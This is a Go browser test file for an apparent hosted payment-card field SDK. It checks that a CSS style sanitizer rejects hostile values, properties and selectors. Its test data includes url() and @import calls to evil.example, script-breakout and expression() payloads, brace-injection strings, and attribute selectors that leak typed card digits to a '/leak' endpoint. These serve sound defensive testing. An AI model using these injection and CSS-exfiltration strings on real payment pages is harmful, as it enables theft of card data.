@@ -1,0 +1,94 @@
+package browser_test
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+// hostileValues are what a page might try with the value of a property.
+func hostileValues() []string {
+	return []string{
+		`url(https://evil.example/a.png)`, `URL("https://evil.example")`, `url (x)`, `u\72l(x)`, `\75rl(x)`, `url` + "\t(x)",
+		`image(https://evil.example/a.png)`, `image-set("a.png" 1x)`, `-webkit-image-set(url(x) 1x)`, `cross-fade(url(x), red)`,
+		`@import "https://evil.example/a.css"`, `import`, `red; background: url(x)`, `red } input { color: blue`, `red}`, `{`, `red;`,
+		`expression(alert(1))`, `expression`, `behavior`, `-moz-binding`, `javascript:alert(1)`, `vbscript:x`, `data:text/css,x`,
+		`attr(value)`, `attr(value px)`, `var(--x)`, `env(safe-area-inset-top)`, `calc(1px + 1px)`, `min(1px, 2px)`, `element(#card)`,
+		`src("x")`, `format("woff")`, `counter(x)`, `paint(x)`, `linear-gradient(red, blue)`, `conic-gradient(red, blue)`,
+		`/* x */ red`, `red /* x */`, `red/**/`, `red // x`, `<!-- red`, `</style><script>alert(1)</script>`, `red !important`,
+		`"unclosed`, `'unclosed`, `"a" "b`, `"\22 "`, `"a;b"`, `"<"`, `"url(x)"`, `re\d`, `red\0`, "red\nurl(x)", "red\x00",
+		`рed`, `＃fff`, `rgb(var(--x))`, `rgb(0,0,0);`, `rgb(url(x))`, `#ggg`, `#fff url(x)`, `Arial, url(x)`, `U+26`, `progid:x`, `[value]`,
+		``, ` `, `,`, `red,`, strings.Repeat("a ", 101),
+	}
+}
+
+func goodValues() []string {
+	return []string{
+		`red`, `#fff`, `#11223344`, `16px`, `1.5`, `.5em`, `-1px`, `100%`, `0 0 0 2px #1f8f73`, `rgb(0 0 0 / 50%)`, `rgba(1, 2, 3, .4)`, `hsl(120, 50%, 50%)`,
+		`"Source Sans 3", Arial, sans-serif`, `'Open Sans'`, `system-ui, -apple-system, "Segoe UI"`, `italic 700 16px/1.5 Arial`, `opacity 120ms ease-in, color .2s cubic-bezier(.4, 0, .2, 1)`,
+		`inherit`, `none`, `1px solid #ccc`, `inset 0 -2px 0 rgb(1,2,3)`, `uppercase`, `tabular-nums`,
+	}
+}
+
+// testFieldsStyle: hostile looks do not pass, and what the documents promise does.
+func testFieldsStyle(t *testing.T, b *chromium) {
+	s, p := newFieldsSite(t), b.tab(t, desktop())
+	p.open(s.base + "/sdk/frame/card.html?session=" + fieldsSession)
+	passing := func(values []string) []string {
+		list, err := json.Marshal(values)
+		require.NoError(t, err)
+		return read[[]string](p, string(list)+`.filter(function (value) { return hostedStyle.allowed("input", "color", value); })`)
+	}
+	require.Greater(t, len(hostileValues()), 40)
+	require.Empty(t, passing(hostileValues()))
+	require.Equal(t, goodValues(), passing(goodValues()))
+
+	pair := func(selector, property string) bool {
+		return read[bool](p, `hostedStyle.allowed(`+quote(selector)+`, `+quote(property)+`, "1px")`)
+	}
+	for _, property := range []string{
+		"background", "background-image", "background:", "content", "position", "z-index", "behavior", "-moz-binding", "filter", "mask", "mask-image",
+		"clip-path", "list-style-image", "border-image", "border-image-source", "cursor-x", "src", "--x", "animation", "animation-name", "all", "display", "top",
+		"visibility", "transform", "-webkit-text-security", "font-feature-settings", "unicode-range", "", "color;x", "color:x", "padding}",
+	} {
+		require.False(t, pair("input", property), property)
+	}
+	for _, property := range []string{"color", "font-size", "font-family", "padding", "padding-left", "padding-inline-start", "border-radius", "border-bottom-width", "line-height", "letter-spacing", "box-shadow", "height", "transition", "opacity"} {
+		require.True(t, pair("input", property), property)
+	}
+	for _, selector := range []string{
+		`input[value^="4"]`, `input[value]`, `[value]`, `*`, `html`, `body`, `#card`, `input, *`, `input {} *`, `@import "x"; input`, `@font-face`, `:root`, `input:valid`, `input::selection`,
+		`input::before`, `label`, `.sr`, `#relay`, `:has(input)`, `input:is([value="4"])`, `INPUT`, ` input`, `inp\75t`, ``, `__proto__`, `constructor`,
+	} {
+		require.False(t, pair(selector, "color"), selector)
+	}
+	for _, selector := range []string{"input", "::placeholder", "input:focus", ".valid", ".invalid", ".hosted-field-card-brand-logo"} {
+		require.True(t, pair(selector, "color"), selector)
+	}
+	require.True(t, pair(".hosted-field-card-brand-logo", "right"))
+	p.quiet()
+
+	t.Run("on a page", func(t *testing.T) {
+		t.Parallel()
+		s := newFieldsSite(t)
+		p := s.pay(b, desktop(), "HostedFields", `, style: { input: { color: "rgb(1, 2, 3)", fontSize: "20px" }, "::placeholder": { color: "rgb(4, 5, 6)" }, ".hosted-field-card-brand-logo": { width: "50px" } }`)
+		p.quiet()
+		card := s.frame(p, "card")
+		require.Equal(t, "rgb(1, 2, 3) 20px", read[string](card, `getComputedStyle(document.getElementById("card")).color + " " + getComputedStyle(document.getElementById("card")).fontSize`))
+		require.Equal(t, "rgb(4, 5, 6)", read[string](card, `getComputedStyle(document.getElementById("card"), "::placeholder").color`))
+		require.Equal(t, "50px", read[string](card, `getComputedStyle(logo).width`))
+		require.Equal(t, "1234 1234 1234 1234", read[string](card, `document.getElementById("card").placeholder`))
+	})
+	t.Run("hostile on a page", func(t *testing.T) {
+		t.Parallel()
+		s := newFieldsSite(t)
+		p := s.pay(b, desktop(), "HostedFields", `, style: { input: { backgroundImage: "url(`+s.stranger+`/leak)", color: "red; } * { background: url(`+s.stranger+`/leak)", fontSize: "20px" }, "input[value^='4']": { color: "red" } }`)
+		require.Equal(t, "20px", read[string](s.frame(p, "card"), `getComputedStyle(document.getElementById("card")).fontSize`), "the rest holds")
+		require.NotEmpty(t, p.seen.all(), "it is said aloud")
+		p.typeInto("card", "4")
+		p.until(`log.includes('card input {"valid":false}')`)
+		require.Empty(t, s.holding("stranger", "leak"))
+	})
+}
